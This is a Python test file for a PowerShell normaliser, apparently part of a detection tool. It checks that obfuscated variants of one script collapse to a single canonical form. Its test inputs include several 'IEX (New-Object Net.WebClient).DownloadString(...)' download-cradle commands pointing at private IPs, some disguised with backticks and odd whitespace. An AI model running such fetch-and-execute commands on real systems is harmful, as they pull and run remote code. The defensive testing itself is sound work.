import pytest
from hypothesis import given
from hypothesis import strategies as st

from wheeltapper.powershell.normalise import LONGEST, normalise


@pytest.mark.parametrize(
    "text",
    [
        'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.7/a")',
        "iex(new-object net.webclient).downloadstring('http://192.168.10.99/a')",
        "# why\nInvoke-Expression (\n New-Object Net.WebClient).DownloadString( 'http://1.2.3.4/a')",
        "<# help\n about #>\r\n I`E`X  (New-Object\tNet.WebClient).DownloadString(“http://1.2.3.4/a”)",
    ],
)  # fmt: skip
def test_the_same_written_otherwise_is_the_same(text):
    plain = "invoke-expression(new-object net.webclient).downloadstring('http://0.0.0.0/a')"
    assert normalise(text) == plain


def test_names_of_variables_do_not_matter_but_those_of_the_shell_do():
    assert normalise("$client = $env:TEMP + $_") == normalise("$q7=$env:temp+$_")
    assert normalise("$_") != normalise("$x")


def test_long_data_is_a_word():
    packed = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgdGV4dCBpbiBiYXNlNjQ0NDQ0NDQ="
    assert normalise(f"x '{packed}'") == "x 'basedata'"
    assert normalise("0x" + "ab12" * 10) == "hexdata"
    long_path = "HKLM/software/microsoft/windows/currentversion/policies/system"
    assert normalise(long_path) == long_path.lower()


@given(st.text(max_size=400))
def test_no_text_raises_and_one_line_comes_out(text):
    plain = normalise(text)
    assert "\n" not in plain
    assert normalise(plain.upper()) == normalise(plain.lower()) or not plain.isascii()


def test_length_is_bounded():
    assert len(normalise("iex " * LONGEST)) < 6 * LONGEST
